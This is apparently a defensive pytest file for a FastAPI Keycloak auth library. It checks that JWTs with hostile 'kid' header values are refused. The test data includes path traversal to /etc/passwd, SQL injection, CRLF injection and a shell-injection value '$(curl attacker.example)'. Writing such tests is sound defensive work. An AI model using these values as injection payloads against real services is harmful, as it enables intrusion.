"""Hostile `kid` values: traversal, NUL, injection, look-alikes, 10 kB, other JSON types.

Every token is signed with the realm's real key, so the `kid` is the only fault: the lookup is
an exact string match in the realm's key set, never a path, a query or a normalisation.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from fastapi_kc import AuthError
from tests.attacks.harness import Target, realm_header, signed_raw
from tests.support.tokens import SigningKey, mint, user_claims

REALM_KID = "kid-rsa-1"
STRINGS: dict[str, str] = {
    "path-traversal": "../../../../../../etc/passwd",
    "path-traversal-to-dev-null": "../../../../dev/null",
    "traversal-back-to-the-realm-kid": f"x/../{REALM_KID}",
    "dot-slash-prefix": f"./{REALM_KID}",
    "trailing-slash": f"{REALM_KID}/",
    "nul-suffix": f"{REALM_KID}\x00",
    "nul-only": "\x00",
    "nul-inside": f"kid\x00{REALM_KID}",
    "trailing-space": f"{REALM_KID} ",
    "leading-space": f" {REALM_KID}",
    "upper-case": REALM_KID.upper(),
    "cyrillic-i": REALM_KID.replace("i", "\u0456"),
    "fullwidth": "\uff4b\uff49\uff44-rsa-1",
    "sql-injection": "' OR '1'='1' --",
    "shell-injection": "$(curl attacker.example)",
    "url": "https://attacker.example/key.pem",
    "file-url": "file:///etc/passwd",
    "crlf": f"{REALM_KID}\r\nX-Injected: 1",
    "10kB": "A" * 10_240,
    "257-chars": "k" * 257,
    "empty": "",
    "lone-surrogate": "\ud800",
}
NON_STRINGS: dict[str, Any] = {
    "null": None,
    "integer": 1,
    "float": 1.5,
    "true": True,
    "list-with-the-realm-kid": [REALM_KID],
    "object-with-the-realm-kid": {"kid": REALM_KID},
    "empty-list": [],
}


def test_control_the_realm_kid_is_accepted(target: Target, signing_key: SigningKey) -> None:
    target.accepted(mint(user_claims(), signing_key))


@pytest.mark.parametrize("name", list(STRINGS))
def test_a_hostile_string_kid_is_refused(target: Target, signing_key: SigningKey, name: str) -> None:
    header = realm_header(signing_key, kid=STRINGS[name])
    target.refused(signed_raw(header_bytes(header), user_claims(), signing_key))


@pytest.mark.parametrize("name", list(NON_STRINGS))
def test_a_kid_of_another_json_type_is_refused(target: Target, signing_key: SigningKey, name: str) -> None:
    header = {"alg": "RS256", "typ": "JWT", "kid": NON_STRINGS[name]}
    target.refused(signed_raw(header, user_claims(), signing_key))


def test_a_missing_kid_is_refused(target: Target, signing_key: SigningKey) -> None:
    target.refused(signed_raw({"alg": "RS256", "typ": "JWT"}, user_claims(), signing_key))


def test_a_flood_of_unknown_kids_fetches_the_key_set_at_most_once(target: Target, signing_key: SigningKey) -> None:
    # The cooldown (30 s by default) bounds what a kid flood costs Keycloak.
    mark = target.fake.certs_hits
    for n in range(300):
        result = target.outcome(signed_raw(realm_header(signing_key, kid=f"flood-{n}"), user_claims(), signing_key))
        assert isinstance(result, AuthError)
        assert result.status_code == 401
    assert target.fake.certs_hits - mark <= 1


def header_bytes(header: dict[str, Any]) -> bytes:
    """JSON with non-ASCII kept as \\u escapes (lone surrogates cannot be UTF-8 encoded)."""
    return json.dumps(header, separators=(",", ":"), ensure_ascii=True).encode()
